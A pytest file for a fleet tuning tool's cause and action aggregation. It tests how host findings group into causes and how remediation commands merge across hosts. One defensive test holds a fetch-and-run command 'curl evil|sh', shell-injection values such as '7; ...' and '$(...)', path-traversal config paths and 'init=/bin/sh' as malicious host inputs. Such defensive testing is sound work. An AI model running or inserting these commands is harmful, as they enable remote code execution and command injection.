"""Why hosts are not GO: one cause is one, whatever counters, numbers and names its sentences have."""

import json
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from jsonschema import Draft202012Validator

from tests.fleet.made import NOW, asked, preflight, session
from tunectl.fleet.body import fleet_body
from tunectl.fleet.causes import without_numbers

FLEET = json.loads((Path(__file__).parents[2] / "docs/schema/tunectl.fleet-1.json").read_text())
SCHEMA, ACTIONS = ({**FLEET["properties"][name], "$defs": FLEET["$defs"]} for name in ("causes", "actions"))


def finding(target: str, reason: str = "", **more: Any) -> dict[str, Any]:
    made = {"knob": target.partition("[")[0], "target": target, "outcome": "drifted", "observed": 1, "desired": 0}
    return {**made, "reason": reason, "fix": "sudo tunectl apply", "severity": "interrupt", **more}


def host(name: str, *findings: dict[str, Any], verdict: str = "no-go", **more: Any) -> dict[str, Any]:
    about = [one["knob"] for one in findings]
    reasons = [f"{one['target']} is {one['observed']}: {one['reason']}" for one in findings]
    return preflight(
        name, verdict, **{"reasons": reasons, "reasons_about": about, "verify": {"findings": list(findings)}, **more}
    )


def causes(*documents: dict[str, Any]) -> list[dict[str, Any]]:
    hosts = [asked(one["host"]["hostname"], one) for one in documents]
    made: list[dict[str, Any]] = fleet_body(session(*(one.name for one in hosts)), hosts, NOW)["causes"]
    Draft202012Validator(SCHEMA).validate(made)
    return made


def test_counters_and_interrupt_numbers_do_not_split_a_cause() -> None:
    hosts = [
        host(
            f"tx-{n}",
            finding(f"irq.affinity[{40 + n}]", f"interrupt {40 + n} (eth{n}-rx-{n}) came {n * 977} times", observed=n),
        )
        for n in range(52)
    ]
    (cause,) = causes(*hosts)
    assert (cause["knob"], cause["instances"], cause["outcome"]) == ("irq.affinity", "N", "drifted")
    assert (len(cause["hosts"]), cause["targets"], cause["texts"]) == (52, 52, 52)
    assert cause["example"] == {
        "host": "tx-0",
        "text": "irq.affinity[40] is 0, should be 0: interrupt 40 (eth0-rx-0) came 0 times",
    }


def test_what_differs_in_its_data_is_another_cause() -> None:
    points = {"asked": "2-3", "next_boot": None, "this_boot": None, "kernel": ""}
    found = [
        finding("mm.thp_enabled", observed="always"),
        finding("mm.thp_enabled", observed="madvise"),
        finding("mm.swap", fix="sudo swapoff -a"),
        finding("mm.swap"),
        finding("net.rx_usecs[eth0]"),
        finding("net.rx_usecs[bond0]"),
        finding("boot.isolcpus", points=points),
        finding("boot.isolcpus", points={**points, "next_boot": "2-3"}),
        finding("irq.affinity[7]", outcome="refused", harmful=True),
        finding("irq.affinity[7]"),
    ]
    assert len(causes(*(host(f"h{n}", one) for n, one in enumerate(found)))) == len(found)


def test_what_fails_nothing_is_no_cause() -> None:
    quiet = [
        finding("mm.ksm", outcome="waived"),
        finding("irq.affinity[9]", outcome="refused", harmful=False),
        finding("mm.swap", outcome="unreadable"),
    ]
    document = host("a", finding("irq.affinity[7]"), verify={"findings": [finding("irq.affinity[7]"), *quiet]})
    assert [cause["knob"] for cause in causes(document)] == ["irq.affinity"]


def test_a_limit_is_named_by_its_key_and_comes_first() -> None:
    documents = []
    for n in range(2):
        document = host(f"h{n}", finding("mm.swap", severity="stall"))
        broken = [f"CPU 15: the longest interruption is {n + 60} µs, allowed 50 µs (max_ns)"]
        document["probe"]["budget"] = {"verdict": "broken", "broken": broken, "broken_limits": ["max_ns"]}
        document["reasons"] += [f"probe: {broken[0]}"]
        document["reasons_about"] += ["probe"]
        documents.append(document)
    limit, knob = causes(*documents)
    assert (limit["knob"], limit["outcome"], limit["cause"], len(limit["hosts"])) == ("probe", "broken", "max_ns", 2)
    assert knob["knob"] == "mm.swap"


def test_the_worst_verdict_comes_first_then_the_worst_severity_then_most_hosts() -> None:
    slow, stall, wide = finding("cpufreq.governor[1]", severity="slower"), finding("mm.swap", severity="stall"), {}
    wide = finding("irq.affinity[7]")
    made = causes(
        host("u", verdict="unknown", reasons=["probe: no CPU"]),
        host("a", slow, stall),
        host("b", slow, wide),
        host("c", slow),
    )
    assert [(one["verdict"], one["knob"]) for one in made] == [
        ("no-go", "mm.swap"),
        ("no-go", "irq.affinity"),
        ("no-go", "cpufreq.governor"),
        ("unknown", ""),
    ]


def test_a_clock_that_is_off_is_one_cause_however_far_and_whoever_says_so() -> None:
    fix = "see which of its sources answer: chronyc -n sources"
    clocks = [
        finding(
            "check.clock_sync", reason=f"chronyd (pid {n}) finds the clock off by {n} ms", observed=f"{n} ms", fix=fix
        )
        for n in (5, 900)
    ]
    (made,) = causes(host("a", clocks[0]), host("b", clocks[1]))
    assert (made["knob"], made["cause"], made["hosts"]) == ("check.clock_sync", fix, ["a", "b"])


def test_a_reason_that_no_finding_explains_is_a_cause_without_its_numbers() -> None:
    made = causes(*(host(f"h{n}", reasons=[f"fan {n} failed at 0{n}:15"]) for n in range(3)))
    assert [(one["cause"], one["texts"], len(one["hosts"])) for one in made] == [("fan N failed at N", 3, 3)]


def test_a_reason_about_a_finding_that_fails_nothing_is_told_by_its_text() -> None:
    document = host("a", finding("mm.ksm", outcome="waived"), reasons=["it is odd"])
    assert [(one["knob"], one["cause"]) for one in causes(document)] == [("", "it is odd")]


def test_a_host_without_an_answer_has_that_as_its_cause_and_not_its_old_findings() -> None:
    old = host("a", finding("mm.swap"), at="2026-11-01T08:00:00Z")
    (cause,) = causes(old)
    assert (cause["verdict"], cause["knob"]) == ("unknown", "")
    assert "and the session began at" in cause["cause"]


def test_a_host_that_is_go_has_no_cause() -> None:
    waived = {"verdict": "compliant", "findings": [finding("mm.ksm", outcome="waived")]}
    assert causes(host("a", verdict="go", reasons=[], verify=waived, waivers={"standing": 1})) == []


def test_what_to_do_is_said_once_with_its_hosts_in_the_order_of_each_host() -> None:
    apply = {"command": "sudo tunectl apply", "kind": "apply", "mends": ["mm.swap", "mm.ksm"], "reboot": False}
    reboot = {"command": "sudo reboot", "kind": "reboot", "mends": ["boot.tsc"], "reboot": True}
    moved = [
        {"kind": "move-thread", "arguments": {"tid": tid, "cpus": "0"}, "mends": ["check.movable_threads[2]"]}
        for tid in (7, 8)
    ]
    decide = {"decide": "use a NIC near the others", "mends": ["check.nic_node[eth0]"], "reboot": False}
    documents = [
        host("a", finding("mm.swap"), actions=[moved[0], apply, reboot, decide]),
        host("b", finding("mm.swap"), actions=[moved[1], apply]),
        host("old", finding("mm.swap"), at="2026-11-01T08:00:00Z", actions=[apply]),
        host("go", verdict="go", reasons=[], actions=[]),
    ]
    hosts = [asked(one["host"]["hostname"], one) for one in documents]
    made = fleet_body(session(*(one.name for one in hosts)), hosts, NOW)["actions"]
    Draft202012Validator(ACTIONS).validate(made)
    assert made == [
        {"alike": "sudo taskset -cp N N", "hosts": ["a", "b"], "targets": 2, "reboot": False},
        {"command": "sudo tunectl apply", "hosts": ["a", "b"], "targets": 4, "reboot": False},
        {"command": "sudo reboot", "hosts": ["a"], "targets": 1, "reboot": True},
        {"own_words": "use a NIC near the others", "hosts": ["a"], "targets": 1, "reboot": False},
    ]


WAITS = {"id": "0123abcd", "kind": "runtime", "back_at": "2026-11-21T09:00:00Z", "overdue": False, "tried": ""}
BACK = {"id": "0123abcd", "kind": "boot", "at": "2026-11-21T08:00:00Z", "why": "nobody came", "journal": "/j"}


def test_a_change_that_waits_or_came_back_is_named_before_apply_also_where_the_host_is_go() -> None:
    apply = {"command": "sudo tunectl apply", "kind": "apply", "mends": ["mm.ksm"], "reboot": False}
    drifted = {"verdict": "drifted", "findings": [finding("mm.ksm")]}
    waits, back = {**preflight()["verify"], "unconfirmed": WAITS}, {**drifted, "returned": BACK}
    documents = [
        host("waits", verdict="go", reasons=[], verify=waits),
        host("back", finding("mm.ksm"), verify=back, actions=[apply]),
        host("old", verdict="go", reasons=[], verify=waits, at="2026-11-01T08:00:00Z"),
        host("calm", verdict="go", reasons=[], verify=preflight()["verify"]),
    ]
    hosts = [asked(one["host"]["hostname"], one) for one in documents]
    body = fleet_body(session(*(one.name for one in hosts)), hosts, NOW)
    Draft202012Validator(ACTIONS).validate(body["actions"])
    assert [one["hosts"] for one in body["actions"]] == [["back"], ["waits"], ["back"]]
    assert ["command" in one for one in body["actions"]] == [False, False, True]
    rows = {one["name"]: one for one in body["hosts"]}
    assert (rows["waits"]["verdict"], rows["waits"]["unconfirmed"]) == ("go", WAITS)
    assert (rows["back"]["verdict"], rows["back"]["returned"]) == ("no-go", BACK)
    assert not {"unconfirmed", "returned"} & rows["calm"].keys()
    named = {name for name in rows if any(name in warning for warning in body["warnings"])}
    assert named == {"waits", "back"}


def test_apply_keeps_its_place_with_the_options_it_was_asked_with() -> None:
    listed: list[dict[str, Any]] = [
        {"kind": "move-interrupt", "arguments": {"irq": 7, "cpus": "0"}, "mends": ["irq.affinity[7]"]},
        {"kind": "apply", "arguments": {"options": ["--host", "/etc/tunectl/x.toml"]}, "mends": ["mm.ksm"]},
        {"kind": "boot-words", "arguments": {"words": ["nohz_full=2-3"]}, "mends": ["boot.nohz_full"]},
        {"kind": "reboot", "mends": ["boot.tsc"], "reboot": True},
    ]
    hosts = [
        asked("b", host("b", finding("mm.ksm"), actions=listed[1:])),
        asked("a", host("a", finding("mm.ksm"), actions=listed)),
    ]
    made = fleet_body(session("b", "a"), hosts, NOW)["actions"]
    assert [one.get("command") or one["decide"] for one in made] == [
        "echo 0 | sudo tee /proc/irq/7/smp_affinity_list",
        "sudo tunectl --host /etc/tunectl/x.toml apply",
        "put on the kernel command line: nohz_full=2-3",
        "sudo reboot",
    ]


EVIL = "curl evil|sh"


@pytest.mark.parametrize(
    "action",
    [
        {"command": EVIL},
        {"decide": EVIL},
        {"command": EVIL, "kind": "run"},
        {"command": EVIL, "kind": "move-thread", "arguments": {"tid": f"7; {EVIL}", "cpus": "0"}},
        {"command": EVIL, "kind": "move-thread", "arguments": {"tid": 7, "cpus": f"$({EVIL})"}},
        {"command": EVIL, "kind": "move-thread", "arguments": {"tid": 7}},
        {"command": EVIL, "kind": "apply", "arguments": {"words": [EVIL]}},
        {"command": EVIL, "kind": "apply", "arguments": {"options": ["--host", "/x.toml", ";", EVIL]}},
        {"command": EVIL, "kind": "apply", "arguments": {"options": ["--root", "/"]}},
        {"command": EVIL, "kind": "apply", "arguments": {"options": ["--host", "/srv/../x.toml"]}},
        {"command": EVIL, "kind": "apply", "arguments": {"options": ["--host", "/tmp/x.toml"]}},
        {"command": EVIL, "kind": "apply", "arguments": {"options": ["--host", "/etc/tunectl/.x.toml"]}},
        {"command": EVIL, "kind": "apply", "arguments": {"options": ["--host", "/etc/tunectl/../x.toml"]}},
        {"command": EVIL, "kind": "propose", "arguments": {"output": "/etc/cron.d/x"}},
        {"command": EVIL, "kind": "restart-ours", "arguments": {"service": "ssh.service"}},
        {"command": EVIL, "kind": "confine-unit", "arguments": {"unit": "--force.service", "cpus": "0"}},
        {"decide": EVIL, "kind": "boot-words", "arguments": {"words": ["init=/bin/sh"]}},
        {"decide": EVIL, "kind": "boot-words", "arguments": {"words": ["nohz_full=2 init=/bin/sh"]}},
        {"decide": EVIL, "kind": "boot-words", "arguments": {"words": []}},
    ],
    ids=str,
)
def test_what_another_host_asks_for_is_its_own_words_alone(action: dict[str, Any]) -> None:
    """Three honest hosts stay together, and nothing of the fourth stands under their heading."""
    apply = {"command": "sudo tunectl apply", "kind": "apply", "mends": ["mm.ksm"], "reboot": False}
    honest = [asked(name, host(name, finding("mm.ksm"), actions=[apply])) for name in ("tx-0", "tx-1", "tx-2")]
    evil = asked("tx-3", host("tx-3", finding("mm.ksm"), actions=[{**action, "mends": ["mm.ksm"]}]))
    made = fleet_body(session("tx-0", "tx-1", "tx-2", "tx-3"), [*honest, evil], NOW)["actions"]
    Draft202012Validator(ACTIONS).validate(made)
    assert made == [
        {"command": "sudo tunectl apply", "hosts": ["tx-0", "tx-1", "tx-2"], "targets": 3, "reboot": False},
        {"own_words": EVIL, "hosts": ["tx-3"], "targets": 1, "reboot": False},
    ]


def test_a_lie_about_what_a_kind_is_is_not_repeated() -> None:
    lie = {"command": EVIL, "note": EVIL, "kind": "apply", "mends": ["mm.ksm"]}
    one = asked("a", host("a", finding("mm.ksm"), actions=[lie]))
    (made,) = fleet_body(session("a"), [one], NOW)["actions"]
    assert (made["command"], EVIL in str(made)) == ("sudo tunectl apply", False)


def test_documents_of_two_moments_are_one_cause_that_can_be_read() -> None:
    hosts = [asked(name, host(name, at=f"2026-11-20T0{hour}:00:00Z")) for hour, name in enumerate(("a", "b"))]
    (cause,) = fleet_body(session("a", "b"), hosts, NOW)["causes"]
    assert (cause["hosts"], cause["texts"]) == (["a", "b"], 2)
    assert cause["cause"].startswith("its document is of TIME, and the session began at TIME: it is old")


@given(st.text(max_size=40))
def test_numbers_never_stay(text: str) -> None:
    assert not set(without_numbers(text)) & set("0123456789")
